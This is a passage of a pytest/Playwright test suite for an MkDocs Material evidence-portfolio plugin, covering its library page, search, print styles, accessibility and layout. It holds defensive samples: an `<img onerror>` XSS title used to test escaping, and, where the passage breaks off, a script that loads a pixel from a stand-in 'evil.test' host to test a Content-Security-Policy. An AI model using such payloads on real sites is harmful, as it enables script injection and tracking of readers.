        if item.get("challenge") == "partnerships" or any(t.split("/")[0] == "partnerships" for t in item["maps_to"])
    }
    assert set(shown(page)) == expected and "actions/review-with-partners" in expected


# --- The other generated pages ------------------------------------------------------------------------------------


# --- A library of many items: the newest in the page, every item from the library's data -------------------------

MANY = 400
HOSTILE_TITLE = "Old <img src=x onerror=\"window.hacked=1\"> & 'quoted' café"


@pytest.fixture(scope="module")
def many(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """A generated portfolio of MANY items (more than the library page lists), with an oldest item whose title is
    HTML, built (internal audience) and served."""
    sys.path.insert(0, str(REPOSITORY / "benchmarks"))
    from generate import generate

    project = Project(generate(MANY, tmp_path_factory.mktemp("many") / "project"))
    front_matter = f"title: {json.dumps(HOSTILE_TITLE)}\ntype: evidence\nmaps_to: [facilities/plan]\ndate: 2001-01-01\n"
    project.item("facilities/plan/oldest.md", front_matter + "summary: <b>bold</b>\nvisibility: public\n")
    # the newest, so listed in the page too: partners and tags whose filter links encode ! ' ( ) * & / alike
    odd = "title: Odd names\ntype: evidence\nmaps_to: [facilities/plan]\ndate: 2026-11-27\n"
    project.item("facilities/plan/odd.md", odd + 'partners: ["Mind (Ashby) & Co!", "A/B\'s *best*"]\ntags: ["x~y"]\n')
    result = project.build()
    assert not result.failed, "\n".join([result.error, *result.log])
    server = Server(result.site)
    yield server
    server.close()


def library_items(page: Any) -> dict[str, dict[str, Any]]:
    """Each [data-item] of the library: its attributes and its text."""
    return {
        found["attributes"]["data-item"]: found
        for found in page.eval_on_selector_all(
            "[data-portfolio-library] [data-item]",
            """items => items.map(item => ({
                attributes: Object.fromEntries([...item.attributes].map(a => [a.name, a.value])),
                text: item.textContent.replace(/\\s+/g, " ").trim(),
                links: [...item.querySelectorAll("a")].map(a => [a.getAttribute("href"), a.textContent]),
                html: item.innerHTML}))""",
        )
    }


def test_a_large_library_lists_every_item_from_its_data_as_the_page_lists_its_own(browser: Any, many: Server) -> None:
    items = many.portfolio["items"]
    context = browser.new_context(java_script_enabled=False, viewport=VIEWPORT)
    try:
        page = context.new_page()
        page.goto(library_url(many))
        in_page = library_items(page)
        assert len(in_page) == 200 < len(items) == MANY + 2
    finally:
        context.close()
    page = browser.new_page(viewport=VIEWPORT)
    try:
        open_library(page, many)
        every = library_items(page)
        assert sorted(every) == sorted(item["id"] for item in items)  # one element per item
        assert shown(page) == list(every)  # all of them on show
        for item_id, found in in_page.items():
            assert every[item_id]["attributes"] == found["attributes"], item_id
            assert every[item_id]["text"] == found["text"], item_id
            assert every[item_id]["links"] == found["links"], item_id  # a partner's and a tag's filter too
        assert every["facilities/plan/odd"]["links"][1:] == [
            ["?partner=Mind%20%28Ashby%29%20%26%20Co%21", "Mind (Ashby) & Co!"],
            ["?partner=A%2FB%27s%20%2Abest%2A", "A/B's *best*"],
            ["?tag=x~y", "x~y"],
        ]
        oldest = every["facilities/plan/oldest"]
        assert oldest["attributes"]["data-title"] == HOSTILE_TITLE
        assert oldest["text"].startswith(HOSTILE_TITLE) and "<b>bold</b>" in oldest["text"]
        assert "<img" not in oldest["html"] and page.evaluate("window.hacked") is None
        assert page.locator("[data-more]").is_hidden()
    finally:
        page.close()


def expected_ids(items: list[dict[str, Any]], query: dict[str, str]) -> set[str]:
    """The items a query of one value per key selects, from portfolio.json."""

    def keep(item: dict[str, Any]) -> bool:
        challenge, section = query.get("challenge"), query.get("section")
        return (
            query.get("type", item["type"]) == item["type"]
            and query.get("year", item["date"][:4]) == item["date"][:4]
            and ("partner" not in query or query["partner"] in item["partners"])
            and ("tag" not in query or query["tag"] in item["tags"])
            and (challenge is None or any(t.split("/")[0] == challenge for t in item["maps_to"]))
            and (section is None or any(t.endswith("/" + section) for t in item["maps_to"]))
        )

    return {item["id"] for item in items if keep(item)}


@pytest.mark.parametrize(
    "query",
    [
        {"type": "case-study"},
        {"year": "2025", "partner": "Partner H"},
        {"challenge": "facilities", "section": "plan"},
        {"tag": "rural", "type": "evidence"},
    ],
    ids=lambda query: "&".join(f"{key}={value}" for key, value in query.items()),
)
def test_a_large_library_filtered_holds_exactly_the_matching_items(
    page: Any, many: Server, query: dict[str, str]
) -> None:
    expected = expected_ids(many.portfolio["items"], query)
    assert expected and len(expected) < MANY
    open_library(page, many, "&".join(f"{key}={value.replace(' ', '+')}" for key, value in query.items()))
    found = list(library_items(page))
    assert len(found) == len(expected) and set(found) == expected
    assert sorted(shown(page)) == sorted(expected)
    assert page.locator("[data-count]").inner_text() == f"{len(expected)} of {MANY + 2} items"


def test_a_large_library_opened_from_disk_filters_every_item(browser: Any, many: Server) -> None:
    page = browser.new_page(viewport=VIEWPORT)
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    try:
        page.goto((many.folder / "library/index.html").as_uri() + "?type=case-study")
        page.wait_for_selector("[data-portfolio-library][data-portfolio-ready]", state="attached")
        expected = expected_ids(many.portfolio["items"], {"type": "case-study"})
        assert set(library_items(page)) == expected and len(expected) > 0
        assert not errors, errors
    finally:
        page.close()


@pytest.mark.parametrize("index", [300, 77])
def test_a_large_library_returns_to_the_readers_place_on_a_reload_and_back(page: Any, many: Server, index: int) -> None:
    """Each list of 100 items above the screen was counted at an estimated height, so a reload, or Back from an
    item, landed 100 to 200 items away from where the reader was (an outside review); and, in the first list, 50
    items further on (another: the list itself was counted at its estimate once scrolled to). The page returns to
    the item the reader was at, at the same height on the screen, and after Back the keyboard goes on from the item
    opened, not from the top of the page."""

    def at_place() -> str:
        return str(
            page.evaluate(
                """() => { const root = document.querySelector('[data-portfolio-library]');
                const x = root.getBoundingClientRect().left + 24;
                for (const dy of [0, 16, -16, 32, -32]) {
                    const item = document.elementFromPoint(x, innerHeight * 0.3 + dy).closest('li[data-item]');
                    if (item) return item.dataset.item;
                }
                return null; }"""
            )
        )

    open_library(page, many)
    page.eval_on_selector_all("[data-portfolio-library] li[data-item]", f"items => items[{index}].scrollIntoView()")
    page.mouse.wheel(0, -200)  # as a reader scrolls
    page.wait_for_timeout(700)
    reading = at_place()
    page.reload()
    page.wait_for_selector("[data-portfolio-library][data-portfolio-ready]", state="attached")
    page.wait_for_timeout(300)
    assert at_place() == reading
    page.locator(f'li[data-item="{reading}"] a.portfolio-library__title').click()
    page.wait_for_load_state()
    page.go_back()
    page.wait_for_selector("[data-portfolio-library][data-portfolio-ready]", state="attached")
    page.wait_for_timeout(300)
    assert at_place() == reading
    assert page.evaluate("() => document.activeElement.closest('li[data-item]')?.dataset.item") == reading
    page.wait_for_timeout(400)  # (the place the page keeps, as the reader scrolls, is still the item's)
    assert at_place() == reading


def test_a_large_library_reaches_every_item_without_javascript(browser: Any, many: Server) -> None:
    context = browser.new_context(java_script_enabled=False, viewport=VIEWPORT)
    try:
        page = context.new_page()
        page.goto(library_url(many))
        # The count at the top says that only the newest are listed (it said "303 items" above 200: a review)
        count = page.locator("[data-count]").inner_text()
        total = len(many.portfolio["items"])
        assert count == f"{total} items: the newest 200 are listed here; every item, as a plain list", count
        # The click only starts loading the list: it is read once loaded (CI once read the library, with no list).
        with page.expect_navigation():
            page.locator("[data-count]").get_by_role("link", name="every item, as a plain list").click()
        links = page.eval_on_selector_all(".portfolio-library__list a", "links => links.map(a => a.href)")
        expected = {urllib.parse.urljoin(many.url, item["url"]) for item in many.portfolio["items"]}
        assert len(links) == len(expected) and set(links) == expected
        assert page.get_by_role("link", name=HOSTILE_TITLE).count() == 1
    finally:
        context.close()


@pytest.mark.parametrize(
    "role, expected",
    [
        ("case_studies", {"partnerships/joint-bid", "people/walking-football"}),
        ("partners", ALL - NO_PARTNER),
        ("celebrations", {"people/coaching-award"}),
        ("actions", {"actions/review-with-partners"}),
    ],
)
def test_generated_pages_load(page: Any, site: Server, role: str, expected: set[str]) -> None:
    response = page.goto(site.url + site.portfolio["pages"][role])
    assert response is not None and response.status == 200
    ids = set(page.eval_on_selector_all("article [data-item]", "els => els.map(e => e.dataset.item)"))
    assert ids == expected


# --- Material's search --------------------------------------------------------------------------------------------


def search(page: Any, words: str, expected: str) -> str:
    """Type words into Material's search box (key by key: Material listens to the keyboard) and wait until the
    results name `expected`; the text of the results."""
    box = page.locator(".md-search__input")
    if not box.is_visible():  # a narrow window shows only the magnifier; at 1200 px the box is in the header
        page.locator("label.md-header__button[for='__search']").click()
    box.click()
    box.press_sequentially(words)
    results = page.locator(".md-search-result__list")
    try:
        page.wait_for_function(
            "t => document.querySelector('.md-search-result__list').innerText.includes(t)", arg=expected, timeout=10_000
        )
    except Exception:
        pytest.fail(f"searching {words!r} did not find {expected!r}; results: {results.inner_text()!r}")
    return results.inner_text()


def test_search_finds_an_item_by_a_word_of_its_body(page: Any, site: Server) -> None:
    page.goto(site.url)
    search(page, UNIQUE_WORD, title_of("partnerships/joint-bid"))
    hits = page.eval_on_selector_all(".md-search-result__item > a", "as => as.map(a => new URL(a.href).pathname)")
    assert set(hits) == {"/partnerships/joint-bid/"}


def test_search_finds_an_item_by_its_title_written_with_a_plus(page: Any, sample: Server) -> None:
    """Search read "+58" in a pasted title as "58 must appear", and the index held "+58": the title found nothing
    (an outside review). The sample's (and a new portfolio's) search parts words at "+" too."""
    title = "Partner Net Promoter Score rises from +22 to +58"
    page.goto(sample.url)
    assert title in search(page, title, title)
    starter = (REPOSITORY / "plugins/evidence_portfolio/starter/project/mkdocs.yml").read_text(encoding="utf-8")
    assert "  - search:\n" in starter and "      separator: '[\\s\\-+]+'\n" in starter


def test_search_finds_items_by_partner_and_the_generated_pages(page: Any, site: Server) -> None:
    page.goto(site.url)
    search(page, "Age UK", title_of("people/workforce-plan"))
    page.goto(site.url)
    search(page, "Improvement plan", "Improvement plan")
    hits = page.eval_on_selector_all(".md-search-result__item > a", "as => as.map(a => new URL(a.href).pathname)")
    assert "/" + site.portfolio["pages"]["actions"] in hits


# --- The accreditation pack in print -----------------------------------------------------------------------------


def test_accreditation_pack_print_styles(page: Any, site: Server) -> None:
    page.goto(site.url + site.portfolio["pages"]["print"])
    page.emulate_media(media="print")
    hidden = page.evaluate(
        """() => ['.md-header', '.md-tabs', '.md-sidebar', '.md-footer', '.md-search']
            .flatMap(s => [...document.querySelectorAll(s)].map(e => [s, getComputedStyle(e).display]))"""
    )
    assert hidden and any(selector == ".md-header" for selector, _ in hidden)
    assert all(display == "none" for _, display in hidden), hidden

    breaks = page.eval_on_selector_all(
        "h2.portfolio-pack-challenge", "hs => hs.map(h => getComputedStyle(h).breakBefore)"
    )
    assert breaks and all(value == "page" for value in breaks), breaks

    links = page.eval_on_selector_all(
        "a[data-print-url]", "as => as.map(a => [a.dataset.printUrl, getComputedStyle(a, '::after').content])"
    )
    assert links
    for url, after in links:
        assert url and url in after, (url, after)

    page.emulate_media(media="screen")
    assert page.eval_on_selector(".md-header", "e => getComputedStyle(e).display") != "none"
    after = page.eval_on_selector("a[data-print-url]", "a => getComputedStyle(a, '::after').content")
    assert after in ("none", "normal", "")


# --- Accessibility ----------------------------------------------------------------------------------------------


def audited_pages(server: Server) -> list[str]:
    """Every generated page (each challenge's too) and an item page (a case study's, which has the most to show)."""
    data = server.portfolio
    item = next(i for i in data["items"] if i["type"] == "case-study")
    return [*data["pages"].values(), *(challenge["url"] for challenge in data["challenges"]), item["url"]]


def axe_violations(page: Any, axe_source: str, url: str) -> list[dict[str, Any]]:
    page.goto(url)
    page.add_script_tag(content=axe_source)
    return page.evaluate(
        """async () => (await axe.run(document)).violations
            .filter(v => v.impact === 'serious' || v.impact === 'critical')
            .map(v => ({id: v.id, impact: v.impact, help: v.help,
                        nodes: v.nodes.slice(0, 5).map(n => n.target.join(' ') + ': ' + n.failureSummary)}))"""
    )


@pytest.mark.parametrize("width", [390, 1280])
@pytest.mark.parametrize("which", ["site", "sample", "long_titles"])
def test_no_serious_accessibility_violations(
    browser: Any, axe_source: str, request: pytest.FixtureRequest, which: str, width: int
) -> None:
    """axe-core on every generated page and an item page, on a phone and on a desktop."""
    server: Server = request.getfixturevalue(which)
    context = browser.new_context(viewport={"width": width, "height": 800})
    try:
        page = context.new_page()
        found = {url or "(home)": axe_violations(page, axe_source, server.url + url) for url in audited_pages(server)}
    finally:
        context.close()
    found = {url: violations for url, violations in found.items() if violations}
    assert not found, "axe-core found serious or critical violations:\n" + json.dumps(found, indent=2)


def test_the_portfolios_colours_are_readable_in_the_dark_scheme(browser: Any, axe_source: str, dark: Server) -> None:
    """The states and flags (covered, backed by evidence, overdue, done, stale) and the library's button kept the
    light scheme's colours on Material's dark background (slate), at 2:1 (a review): axe-core's contrast rule on
    every generated page, the challenges' and an item's, in that scheme."""
    context = browser.new_context(viewport={"width": 1280, "height": 800})
    try:
        page = context.new_page()
        found, shown = {}, set()
        for url in audited_pages(dark):
            page.goto(dark.url + url)
            assert page.evaluate("document.body.dataset.mdColorScheme") == "slate", "the test tests the dark scheme"
            shown |= set(
                page.evaluate(
                    "[...document.querySelectorAll('[class*=\"portfolio-\"]')].flatMap(e => [...e.classList])"
                )
            )
            page.add_script_tag(content=axe_source)
            found[url or "(home)"] = page.evaluate(
                """async () => (await axe.run(document, {runOnly: ['color-contrast']})).violations
                    .flatMap(v => v.nodes.map(n => n.target.join(' ') + ': ' + n.failureSummary))"""
            )
    finally:
        context.close()
    flags = {"portfolio-state--covered", "portfolio-state--uncovered", "portfolio-state--backed"}
    flags |= {"portfolio-flag--overdue", "portfolio-flag--stale", "portfolio-flag--done", "portfolio-flag--unplanned"}
    assert flags <= shown, flags - shown  # (the test tests them)
    assert not [nodes for nodes in found.values() if nodes], json.dumps(found, indent=2)


def test_an_items_wide_tables_are_regions_of_their_own_names_at_any_width(browser: Any, sample: Server) -> None:
    """An item's tables that scroll sideways were each a region named "Table (scrolls sideways)", one name twice to a
    screen reader, and a box that scrolled only once the window was made narrower (or zoomed) was no region at all
    (a review): each is named after its caption or the heading above it, and boxes are looked at again on resize."""
    url = sample.url + "partnerships/measure/2026-07-15-partner-survey-2026-results/"
    names = "[...document.querySelectorAll('.md-typeset__scrollwrap[role=region][tabindex]')].map(b => b.ariaLabel)"
    context = browser.new_context(viewport={"width": 320, "height": 800})
    try:
        page = context.new_page()
        page.goto(url)
        narrow = page.evaluate(names)
        assert len(narrow) >= 2 and len(set(narrow)) == len(narrow), narrow
        assert all(name.startswith("Table under “") and name.endswith(" (scrolls sideways)") for name in narrow)
        page.set_viewport_size({"width": 1280, "height": 800})
        page.goto(url)
        assert page.evaluate(names) == []  # (nothing scrolls on a desktop)
        page.set_viewport_size({"width": 320, "height": 800})
        for _ in range(50):  # (the page's rule forbids a function to wait on: its boxes are looked at after 200 ms)
            if len(page.evaluate(names)) >= len(narrow):
                break
            page.wait_for_timeout(100)
        assert sorted(page.evaluate(names)) == sorted(narrow)
    finally:
        context.close()


def test_coverage_matrix_is_a_real_table(page: Any, site: Server) -> None:
    page.goto(site.url)
    table = page.locator("table.portfolio-matrix")
    assert table.locator("caption").count() == 1
    assert table.locator("thead th[scope=col]").count() == 1 + 3 + 3  # Challenge; Plan, Do, Review; Rating...
    assert table.locator("tbody th[scope=row]").count() == 2
    cells = page.eval_on_selector_all(
        "table.portfolio-matrix td.portfolio-cell", "tds => tds.map(td => [td.className, td.innerText])"
    )
    for classes, text in cells:
        if "portfolio-cell--covered" in classes:
            assert "Covered" in text and "Not covered" not in text
        elif "portfolio-cell--uncovered" in classes:
            assert "Not covered" in text
        else:
            assert "not assessed" in text


# --- Every screen: a phone and a desktop with the table of contents ----------------------------------------------

WIDTHS = (390, 1280)
"""A phone held upright, and a desktop where Material shows the navigation and the table of contents."""

TOO_WIDE = """() => [...document.querySelectorAll('article *')]
    .filter(e => e.getBoundingClientRect().right > innerWidth + 1 && !e.closest('.portfolio-scroll'))
    .slice(0, 5).map(e => `${e.tagName.toLowerCase()}.${e.className}`)"""


CAPTIONS_CUT = """() => [...document.querySelectorAll('.portfolio-scroll caption')]
    .filter(c => c.getClientRects().length
        && c.getBoundingClientRect().right > c.closest('.portfolio-scroll').getBoundingClientRect().right + 1)
    .map(c => c.textContent.slice(0, 40))"""
"""The captions of tables that scroll sideways running on past their box (a phone cut their lines: a review)."""


@pytest.mark.parametrize("width", WIDTHS)
@pytest.mark.parametrize("which", ["site", "sample", "long_titles"])
def test_no_page_scrolls_sideways(browser: Any, request: pytest.FixtureRequest, which: str, width: int) -> None:
    """Every generated page and an item page fit the screen: wide tables scroll inside their own box, never the
    page, their captions staying within it, and nothing reaches under the table of contents."""
    server: Server = request.getfixturevalue(which)
    context = browser.new_context(viewport={"width": width, "height": 800})
    try:
        page = context.new_page()
        wide = {}
        for url in audited_pages(server):
            page.goto(server.url + url)
            scroll_width, inner_width = page.evaluate("[document.documentElement.scrollWidth, innerWidth]")
            if scroll_width > inner_width:
                wide[url or "(home)"] = (scroll_width, page.evaluate(TOO_WIDE))
            if cut := page.evaluate(CAPTIONS_CUT):
                wide[f"{url or '(home)'}: captions cut at their box's edge"] = (0, cut)
            if width == 1280:  # the article ends where the table of contents begins
                overlap = page.evaluate(
                    """() => { const toc = document.querySelector('.md-sidebar--secondary');
                        if (!toc || !toc.getClientRects().length) return [];
                        const edge = toc.getBoundingClientRect().left;
                        return [...document.querySelectorAll('article *')]
                            .filter(e => e.getBoundingClientRect().right > edge + 1 && !e.closest('.portfolio-scroll'))
                            .slice(0, 5).map(e => e.tagName.toLowerCase() + '.' + e.className) }"""
                )
                if overlap:
                    wide[f"{url or '(home)'} under the table of contents"] = (0, overlap)
        assert not wide, f"pages wider than {width} px: {wide}"
    finally:
        context.close()


def test_on_a_phone_a_sections_facts_stand_under_their_labels(browser: Any, site: Server) -> None:
    """At 390 px the question and the best practice ran in a narrow strip beside a label column as wide as "Example
    of best practice" (a journey review): on a phone each label stands above its text, which takes the width; on a
    desktop they stay side by side."""
    url = site.url + site.portfolio["challenges"][0]["url"]
    starts = """() => { const facts = document.querySelector('.portfolio-facts');
        const label = facts.querySelector('dt').getBoundingClientRect(), text = facts.querySelector('dd').getBoundingClientRect();
        return [Math.round(text.left - label.left), Math.round(text.width / facts.getBoundingClientRect().width * 100)] }"""
    shown = {}
    for width in WIDTHS:
        context = browser.new_context(viewport={"width": width, "height": 800})
        try:
            page = context.new_page()
            page.goto(url)
            shown[width] = page.evaluate(starts)
        finally:
            context.close()
    assert shown[390] == [0, 100], shown  # under its label, as wide as the facts
    assert shown[1280][0] > 0, shown  # beside it


@pytest.fixture(scope="module")
def sample_for_the_accreditor(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """The sample built for the accreditor, whose heatmap has the most columns (the assessor's, the target)."""
    server = Server(build(REPOSITORY / "mkdocs.yml", tmp_path_factory.mktemp("sample") / "site", audience="accreditor"))
    yield server
    server.close()


def test_the_samples_heatmap_fits_a_desktop_screen_and_a_narrow_one_shows_that_it_scrolls(
    browser: Any, sample_for_the_accreditor: Server
) -> None:
    """The sample's heatmap was 45 px wider than its box at 1280 px, its Target column cut off with nothing to say
    that it scrolls (an outside review): it fits at 1280 px; at a phone's width, where it cannot, its box shows a
    shadow on the side where more of it is hidden."""
    context = browser.new_context(viewport={"width": 1280, "height": 800})
    try:
        page = context.new_page()
        page.goto(sample_for_the_accreditor.url)
        assert page.locator(".portfolio-matrix th", has_text="Target").count() == 1
        box = "document.querySelector('.portfolio-scroll:has(.portfolio-matrix)')"
        assert page.evaluate(f"{box}.scrollWidth <= {box}.clientWidth"), page.evaluate(
            f"[{box}.scrollWidth, {box}.clientWidth]"
        )
        page.set_viewport_size({"width": 390, "height": 844})
        page.goto(sample_for_the_accreditor.url)
        assert page.evaluate(f"{box}.scrollWidth > {box}.clientWidth")
        assert "radial-gradient" in page.evaluate(f"getComputedStyle({box}).backgroundImage")
    finally:
        context.close()


@pytest.mark.parametrize("width", WIDTHS)
def test_words_in_tables_and_titles_are_not_broken(browser: Any, long_titles: Server, width: int) -> None:
    """No word of a heatmap or history table breaks across lines ("Partnership s"), but at a hyphen: a column is
    as wide as its longest word, and the table's box scrolls."""
    context = browser.new_context(viewport={"width": width, "height": 800})
    try:
        page = context.new_page()
        for url in ("", long_titles.portfolio["challenges"][0]["url"]):
            page.goto(long_titles.url + url)
            broken = page.evaluate(
                """() => [...document.querySelectorAll('article table :is(th, td, a, span, strong)')].flatMap(e =>
                    [...e.childNodes].filter(n => n.nodeType === 3).flatMap(node => {
                        const words = [], re = /[^\\s\u2010-]+/g; let m;  // a hyphen is a fine place to break
                        while ((m = re.exec(node.data))) {
                            const range = document.createRange();
                            range.setStart(node, m.index); range.setEnd(node, m.index + m[0].length);
                            if (range.getClientRects().length > 1) words.push(m[0]);
                        }
                        return words;
                    }))"""
            )
            assert broken == [], (width, url, broken)
    finally:
        context.close()


@pytest.mark.parametrize("which", ["sample", "long_titles"])
def test_charts_show_every_label_whole(browser: Any, request: pytest.FixtureRequest, which: str) -> None:
    """Every label of the rating and metric charts (the last date above all) lies inside its chart, at 1280 px."""
    server: Server = request.getfixturevalue(which)
    context = browser.new_context(viewport={"width": 1280, "height": 800})
    try:
        page = context.new_page()
        charted = 0
        for challenge in server.portfolio["challenges"]:
            page.goto(server.url + challenge["url"])
            outside = page.evaluate(
                """() => [...document.querySelectorAll('.portfolio-chart svg, .portfolio-metric-chart svg')].flatMap(svg => {
                    const box = svg.getBoundingClientRect();
                    return [...svg.querySelectorAll('text')].map(t => [t.textContent, t.getBoundingClientRect()])
                        .filter(([, r]) => r.left < box.left - 1 || r.right > box.right + 1).map(([text]) => text);
                })"""
            )
            assert outside == [], (challenge["url"], outside)
            charted += page.locator(".portfolio-chart svg").count()
        assert charted, "no rating chart to look at"

    finally:
        context.close()


@pytest.mark.parametrize("which", ["site", "sample", "long_titles"])
def test_heatmap_has_one_background_per_level(page: Any, request: pytest.FixtureRequest, which: str) -> None:
    """The overview's data-rating elements: the same background for every element of a level, a different one for
    each level, the rating in words on each; and the overview and the pack say the same."""
    server: Server = request.getfixturevalue(which)
    page.goto(server.url)
    found = page.eval_on_selector_all(
        "article [data-rating]",
        "els => els.map(e => [e.dataset.rating, getComputedStyle(e).backgroundColor, e.innerText])",
    )
    scale = {level["id"]: level["label"] for level in server.portfolio["framework"]["rating_scale"]}
    rated = {
        section["rating"] for c in server.portfolio["challenges"] for section in c["sections"] if section["rating"]
    }
    assert rated and rated <= {rating for rating, _, _ in found}
    backgrounds: dict[str, set[str]] = {}
    for rating, background, text in found:
        assert scale[rating] in text  # in words too
        backgrounds.setdefault(rating, set()).add(background)
    assert all(len(colours) == 1 for colours in backgrounds.values()), backgrounds
    colours = [colours.pop() for colours in backgrounds.values()]
    assert len(set(colours)) == len(colours) and "rgba(0, 0, 0, 0)" not in colours, colours
    # In the system's high-contrast mode (forced colours) backgrounds go: each rating keeps its words and a border.
    page.emulate_media(forced_colors="active")
    kept = page.eval_on_selector_all(
        "article [data-rating]", "els => els.map(e => [getComputedStyle(e).borderTopStyle, e.innerText.trim() !== ''])"
    )
    assert kept and all(style != "none" and worded for style, worded in kept), kept
    page.emulate_media(forced_colors="none")
    page.goto(server.url + server.portfolio["pages"]["print"])
    in_pack = page.eval_on_selector_all(
        ".portfolio-pack-cover [data-rating]",
        "els => els.map(e => [e.dataset.rating, getComputedStyle(e).backgroundColor])",
    )
    assert sorted(map(tuple, in_pack)) == sorted((rating, background) for rating, background, _ in found)


# --- Screenshots -------------------------------------------------------------------------------------------------


def test_screenshots(browser: Any, page: Any, sample: Server) -> None:
    """Full-page screenshots of the sample's home page and library (tests/screenshots/, git-ignored). The README's
    images, docs/images/home.png (a desktop) and home-phone.png (a phone), are written when missing or with
    PORTFOLIO_UPDATE_SCREENSHOTS=1."""
    SCREENSHOTS.mkdir(exist_ok=True)
    page.goto(sample.url)
    page.wait_for_load_state("networkidle")
    home = page.screenshot(path=str(SCREENSHOTS / "home.png"), full_page=True)
    open_library(page, sample)
    page.screenshot(path=str(SCREENSHOTS / "library.png"), full_page=True)
    assert home.startswith(b"\x89PNG") and (SCREENSHOTS / "library.png").stat().st_size > 1000
    update = os.environ.get("PORTFOLIO_UPDATE_SCREENSHOTS") == "1"
    for image, viewport in README_IMAGES:
        if image.exists() and not update:
            continue
        image.parent.mkdir(parents=True, exist_ok=True)
        context = browser.new_context(viewport=viewport, device_scale_factor=1)
        try:
            tab = context.new_page()
            tab.goto(sample.url)
            tab.wait_for_load_state("networkidle")
            # The portfolio at a glance: on a desktop, the page from its top to the end of the heatmap; on a phone,
            # the figures and the heatmap alone (the introduction above them takes a few screens).
            top, bottom = tab.eval_on_selector(
                ".portfolio-glance",
                "e => [e.getBoundingClientRect().top + scrollY, e.getBoundingClientRect().bottom + scrollY]",
            )
            top = 0 if viewport["width"] > 600 else top - 16
            area = {"x": 0, "y": top, "width": viewport["width"], "height": bottom + 16 - top}
            tab.screenshot(path=str(image), clip=area, full_page=True)
        finally:
            context.close()


def test_scripts_and_styles_come_from_the_site(site: Server) -> None:
    """The library's script is vendored: served by the site itself, nothing loaded from a CDN."""
    html = (site.folder / site.portfolio["pages"]["library"] / "index.html").read_text(encoding="utf-8")
    sources = re.findall(r'<(?:script|link)\b[^>]*\b(?:src|href)="([^"]+)"', html)
    assert any(source.endswith("assets/portfolio/library.js") for source in sources)
    assert not [s for s in sources if s.startswith(("http:", "https:", "//"))]
    with urllib.request.urlopen(site.url + "assets/portfolio/library.js") as response:
        assert response.status == 200


DIAGRAMS_YML = (
    MKDOCS_YML
    + """\
markdown_extensions:
  - pymdownx.superfences:
      custom_fences:
        - name: mermaid
          class: mermaid
          format: !!python/name:pymdownx.superfences.fence_code_format
"""
)

OPEN_SHADOW_ROOTS = (
    "const attach = Element.prototype.attachShadow;"
    "Element.prototype.attachShadow = function (options) { return attach.call(this, {...options, mode: 'open'}) }"
)
"""Material draws a diagram in a closed shadow root: opened, so that a test can read the drawing."""


@pytest.fixture(scope="module")
def diagrams(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """A portfolio whose items draw Material's diagrams: one from a `mermaid` fence, one from raw HTML."""
    project = Project(tmp_path_factory.mktemp("diagrams") / "project")
    project.write("framework.yml", FRAMEWORK)
    project.write("mkdocs.yml", DIAGRAMS_YML)
    front_matter = "title: {}\ntype: evidence\nmaps_to: partnerships/do\ndate: 2026-05-14\n"
    project.item(
        "partnerships/fence.md",
        front_matter.format("Fence"),
        "```mermaid\ngraph TD\n  Plan --> Deliver\n```\n",
    )
    project.item(
        "partnerships/raw.md",
        front_matter.format("Raw"),
        '<pre class="mermaid">graph LR\n  Review --> Improve\n</pre>\n',
    )
    project.item("partnerships/plain.md", front_matter.format("Plain"), "No diagram here.\n")
    result = project.build()
    assert not result.failed, "\n".join([result.error, *result.log])
    server = Server(result.site)
    yield server
    server.close()


@pytest.mark.parametrize(("item", "label"), [("fence", "Deliver"), ("raw", "Improve")])
def test_diagrams_draw_with_the_sites_own_mermaid(page: Any, diagrams: Server, item: str, label: str) -> None:
    """Material would load mermaid from unpkg.com to draw a diagram: it draws with the copy in the site, and nothing
    is requested from another host."""
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    page.add_init_script(OPEN_SHADOW_ROOTS)
    page.goto(diagrams.url + f"partnerships/{item}/")
    page.wait_for_function("document.querySelector('div.mermaid')?.shadowRoot?.querySelector('svg')", timeout=20000)
    assert label in page.evaluate("document.querySelector('div.mermaid').shadowRoot.textContent")
    assert diagrams.url + "assets/portfolio/mermaid.min.js" in requested
    assert [url for url in requested if not url.startswith(diagrams.url)] == []


def test_a_page_without_a_diagram_loads_no_mermaid(page: Any, diagrams: Server) -> None:
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    page.goto(diagrams.url + "partnerships/plain/")
    page.wait_for_load_state("networkidle")
    assert diagrams.url + "assets/portfolio/mermaid-loader.js" in requested
    assert not [url for url in requested if "mermaid.min.js" in url or not url.startswith(diagrams.url)]


def test_diagrams_draw_in_a_site_opened_from_disk(page: Any, diagrams: Server) -> None:
    """As in the assessor's pack: the copy of mermaid is found beside the loader over file:// too."""
    page.add_init_script(OPEN_SHADOW_ROOTS)
    page.goto((diagrams.folder / "partnerships/raw/index.html").resolve().as_uri())
    page.wait_for_function("document.querySelector('div.mermaid')?.shadowRoot?.querySelector('svg')", timeout=20000)
    assert "Improve" in page.evaluate("document.querySelector('div.mermaid').shadowRoot.textContent")


def test_a_page_asks_no_other_website_for_what_it_shows(page: Any, tmp_path: Path) -> None:
    """An item showing a partner's photo by its address, an embedded video and a stylesheet from other hosts: the
    browser opening it asked each of those hosts for them, telling them who read the (internal) page (a hostile
    review). It now asks no other host for anything; the photo's description shows, and the link to the partner
    stays. (A script of the page's own, from another host or speculation rules, is an error: page-script.)"""
    body = (
        "![Our team](https://partner.example.org/team.jpg)\n\n"
        '<iframe src="https://video.example.com/embed/1"></iframe>\n'
        '<link rel="stylesheet" href="https://fonts.example.com/a.css">\n\n'
        "[The partner](https://partner.example.org/)\n"
    )
    with _served_internal_item(tmp_path, "shown", body) as (server, _):
        requested: list[str] = []
        page.on("request", lambda request: requested.append(request.url))
        page.goto(server.url + "partnerships/shown/")
        page.wait_for_load_state("networkidle")
        assert requested and [url for url in requested if not url.startswith(server.url)] == []
        assert page.locator("article").inner_text().count("Our team") == 1
        assert page.locator('a[href="https://partner.example.org/"]').count() == 1


def test_a_script_cannot_load_from_another_website(page: Any, tmp_path: Path) -> None:
    """What the seal cannot read, a script that builds an address and loads from another host (a hostile review: an
    item's own, now refused, page-script; here the site's own, which mkdocs.yml names): the browser itself refuses,
    as every page of the site carries a Content-Security-Policy allowing its own files only. The script runs (the
    refusals are seen), and whatever it asks of another host is blocked by the policy before it leaves the
    browser."""
    script = (
        "const host = 'https://h44.' + 'evil.test/';\nnew Image().src = host + 'pixel.gif';\n"
